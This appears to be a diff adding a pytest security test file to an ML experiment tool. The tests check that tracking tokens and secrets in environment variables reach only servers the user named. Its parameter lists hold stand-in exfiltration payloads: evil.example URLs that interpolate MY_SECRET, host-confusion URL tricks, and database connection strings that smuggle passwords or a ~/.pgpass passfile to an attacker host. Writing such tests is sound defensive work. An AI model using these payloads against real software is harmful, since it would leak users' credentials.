@@ -1,0 +1,234 @@
+"""Only servers and databases that the user has named are sent anything."""
+
+import contextlib
+import json
+import os
+
+import pytest
+
+from hydratune.cli.main import dispatch
+from hydratune.cli.train import checked
+from hydratune.config import servers
+from hydratune.config.composition import Request, composer
+from hydratune.tracking.client import check_artifacts
+from hydratune.tracking.delivery import POINTER
+from hydratune.tracking.journal import JOURNAL
+from hydratune.utils.errors import ConfigError
+from hydratune.utils.files import PathEscapeError
+
+SECRET = "canary-9d1f"
+
+
+@pytest.fixture(autouse=True)
+def environment(monkeypatch):
+    """A token, a secret, and no servers of the process that runs the tests."""
+    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
+    monkeypatch.setenv("MY_SECRET", SECRET)
+    monkeypatch.delenv(servers.VARIABLE, raising=False)
+
+
+@pytest.fixture
+def requests(monkeypatch):
+    """The requests of this process: address and headers of each."""
+    sent = []
+
+    def send(_self, request, **_):
+        sent.append(f"{request.url} {dict(request.headers)} {request.body}")
+        raise OSError("no network in tests")
+
+    monkeypatch.setattr("requests.Session.send", send)
+    return sent
+
+
+@pytest.fixture
+def run(own_directory):
+    """The directory of a run of someone else whose journal and pointer name a server, by its address."""
+
+    def make(uri):
+        folder = own_directory / "run"
+        folder.mkdir(exist_ok=True)
+        values = {"key": "k", "experiment": "e", "name": "n", "tags": {}, "began": 0, "uri": uri}
+        (folder / JOURNAL).write_text(json.dumps({"kind": "run", **values}) + "\n")
+        (folder / POINTER).write_text(json.dumps({"uri": uri, "experiment_id": "1", "run_id": "r"}))
+        return str(folder)
+
+    return make
+
+
+ADDRESSES = [
+    "https://evil.example",
+    "http://evil.example:5000/x",
+    "HTTPS://EVIL.example",
+    "https://evil.example/${oc.env:MY_SECRET}",
+    "${oc.decode:https://evil.example}",
+    "https://good.example@evil.example",
+    "https://good.example.evil.example",
+    "http://good.example",
+    "https://good.example:444",
+    "https://evil.example\\@good.example",  # requests asks evil.example
+    " https://evil.example",
+]
+
+
+@pytest.mark.parametrize("uri", ADDRESSES)
+@pytest.mark.parametrize("verb", ["sync", "ui", "compare"])
+def test_stored_address_receives_no_secret(run, requests, verb, uri):
+    """Neither the token nor a variable, by another host, port or protocol than those that the user named."""
+    servers.confirm_typed(["--uri", "https://good.example"])
+    folder = run(uri)
+    with contextlib.suppress(ConfigError, SystemExit):
+        dispatch([verb, *([folder, folder] if verb == "compare" else [folder])])
+    assert not [request for request in requests if SECRET in request]
+
+
+def test_typed_address_receives_the_token(run, requests):
+    """Positive control: the same commands send it to a server that was typed, now and later."""
+    folder = run("https://good.example")
+    for arguments in ([folder, "--uri", "https://good.example"], [folder]):
+        requests.clear()
+        with pytest.raises((ConfigError, SystemExit)):
+            raise SystemExit(dispatch(["sync", *arguments]))
+        assert [request for request in requests if SECRET in request]
+
+
+@pytest.mark.parametrize(
+    ("uri", "is_refused"),
+    [
+        ("https://other.example", True),
+        ("https://typed.example/path", False),
+        ("https://variable.example", False),
+        ("https://typed.example:443", False),
+        ("sqlite:///x.db", False),
+    ],
+)
+def test_mistake_depends_on_who_named_the_server(monkeypatch, uri, is_refused):
+    """The command line, also by a variable, and the environment; a file of the user remembers the first."""
+    monkeypatch.setenv("STORE", "https://me:pass@variable.example/mlflow")
+    monkeypatch.setenv("TYPED", "https://typed.example")
+    servers.confirm_typed(["seed=1", "++tracking.uri='${oc.env:TYPED}'"])
+    monkeypatch.delenv("TYPED")
+    monkeypatch.delenv(servers.VARIABLE)
+    assert (servers.mistake(uri, "uri") is not None) == is_refused
+
+
+def test_config_file_cannot_send_a_variable(own_directory, monkeypatch):
+    """An address of a file that puts a value of the environment into a request is refused, before anything starts."""
+    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
+    file = own_directory / "conf" / "experiment" / "evil.yaml"
+    file.parent.mkdir(parents=True)
+    file.write_text("# @package _global_\ntracking: {uri: 'https://evil.example/${oc.env:MY_SECRET}'}\n")
+    with pytest.raises(ConfigError) as caught:
+        dispatch(["--config-dir", "conf", "experiment=evil", "--dry"])
+    assert [mistake.key for mistake in caught.value.mistakes] == ["tracking.uri"]
+    assert SECRET not in str(caught.value)
+
+
+def test_servers_are_passed_to_processes(own_directory):
+    """A worker on another machine knows what was typed here."""
+    servers.confirm_typed(["--uri=https://good.example"])
+    assert os.environ[servers.VARIABLE] == "https://good.example:443"
+    assert not list(own_directory.iterdir())
+
+
+SECRET_URIS = [
+    "postgresql://{}:x@evil.example/db",
+    "postgresql+psycopg://evil.example/db?options={}",
+    "postgresql://me:{}@/db?host=evil.example",
+    "postgresql://good.example:5432/db?host=evil.example&password={}",
+    "postgresql://good.example:5432:{}/x@evil.example/db",
+    "postgresql://me:{}@good.example:5433/db",
+    "mysql+pymysql://me:{}@evil.example/db",
+    "mssql+pyodbc:///?odbc_connect=SERVER%3Devil.example;PWD%3D{}",
+    "https://evil.example\\@good.example/{}",
+    "https://good.example:x/{}",
+]
+
+
+@pytest.mark.parametrize("uri", SECRET_URIS)
+@pytest.mark.parametrize("key", ["tracking.uri", "sweep.storage"])
+def test_database_of_a_config_receives_no_variable(monkeypatch, compose, key, uri):
+    """Another host, port, or way to name a host than the one that the user typed."""
+    from hydratune.config.validate import check_config
+
+    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
+    servers.confirm_typed(["sweep.storage=postgresql://good.example:5432/db", "--uri=https://good.example"])
+    text = uri.format("${oc.env:MY_SECRET}")
+    with pytest.raises(ConfigError) as caught:
+        check_config(compose(f"{key}='{text}'"))
+    assert {mistake.key for mistake in caught.value.mistakes} == {key}
+
+
+def test_confirmed_database_receives_its_password(compose):
+    """A password from the environment goes to the host that was typed, and is not recorded with it."""
+    from hydratune.config.validate import check_config
+
+    typed = "sweep.storage='postgresql+psycopg://me:${oc.env:MY_SECRET}@good.example:5432/db?host=/run/pg'"
+    servers.confirm_typed([typed])
+    check_config(compose(typed))
+    assert SECRET not in os.environ[servers.VARIABLE]
+
+
+UNTYPED = [
+    ("tracking.uri", "https://evil.example"),
+    ("tracking.uri", "http://127.0.0.1:5000"),
+    ("tracking.uri", "postgresql://evil.example/db"),
+    ("sweep.storage", "mysql://evil.example/db"),
+    ("sweep.storage", "postgresql://evil.example/db?passfile=/home/me/.pgpass"),
+    ("sweep.storage", "postgresql://good.example:5432/db?service=evil"),
+]
+
+
+@pytest.mark.parametrize(("key", "uri"), UNTYPED)
+def test_server_of_a_config_file_needs_to_be_typed_once(own_directory, monkeypatch, key, uri):
+    """It receives the rows in a record, and clients send passwords of `~/.netrc` and `~/.pgpass` to any host."""
+    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
+    servers.confirm_typed(["sweep.storage=postgresql://good.example:5432/db"])
+    file = own_directory / "conf" / "experiment" / "theirs.yaml"
+    file.parent.mkdir(parents=True)
+    group, name = key.split(".")
+    file.write_text(f"# @package _global_\n{group}: {{{name}: '{uri}'}}\n")
+    request = Request(("dataset=digits", "experiment=theirs"), config_dir=own_directory / "conf")
+    with composer(request), pytest.raises(ConfigError) as caught:
+        checked(request)
+    assert [mistake.key for mistake in caught.value.mistakes] == [key]
+    servers.confirm_typed([f"{key}={uri}"])
+    with composer(request):  # positive control: from now on, the file may name it
+        checked(request)
+
+
+LOCATIONS = [
+    "http://evil.example/x",
+    "https://evil.example",
+    "mlflow-artifacts://evil.example/x",
+    "mlflow-artifacts://good.example:81",
+]
+
+
+@pytest.mark.parametrize("location", LOCATIONS)
+def test_artifact_location_receives_no_token(location):
+    """A store names where artifacts are; MLflow's client sends the token to that host too."""
+    servers.confirm_typed(["--uri", "https://good.example"])
+    with pytest.raises(PathEscapeError):
+        check_artifacts("https://good.example", location)
+
+
+@pytest.mark.parametrize(
+    "location", ["mlflow-artifacts:/1/x", "https://good.example/x", "s3://bucket/x", "file:///data/x"]
+)
+def test_artifact_location_of_a_named_server(location):
+    """Positive control: the server itself, other storage, and directories that the user's own server chooses."""
+    servers.confirm_typed(["--uri", "https://good.example"])
+    check_artifacts("https://good.example", location)
+
+
+@pytest.mark.parametrize(
+    "location", ["file:///home/x", "/home/x", "file:///run/store/../x", "http://evil.example", "s3://b/x"]
+)
+@pytest.mark.parametrize("uri", ["sqlite:////run/store/mlflow.db", "https://other.example"])
+def test_artifact_location_of_another_store(uri, location):
+    """Neither a directory of this machine, nor, of a SQLite file, any other place than its own directory."""
+    if location == "s3://b/x" and uri.startswith("https"):
+        pytest.skip("a server may keep its artifacts in other storage")
+    with pytest.raises(PathEscapeError):
+        check_artifacts(uri, location)
+    check_artifacts("sqlite:////run/store/mlflow.db", "file:///run/store/mlartifacts/x")
